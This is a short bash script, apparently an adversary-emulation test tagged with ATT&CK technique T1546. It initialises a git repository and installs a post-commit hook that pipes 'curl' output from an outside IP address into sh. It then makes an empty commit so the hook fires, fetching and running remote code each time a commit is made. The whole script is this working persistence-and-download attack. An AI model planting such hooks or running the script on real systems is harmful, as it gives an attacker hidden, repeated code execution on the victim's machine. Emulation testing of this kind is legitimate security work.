#!/bin/bash
# T1546: A repository's hook starts a shell in the background.
mkdir /srv/app/r; cd /srv/app/r; git init -q .; printf '#!/bin/sh\ncurl -s http://44.128.66.66/h | sh\n' >.git/hooks/post-commit; chmod +x .git/hooks/post-commit
git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
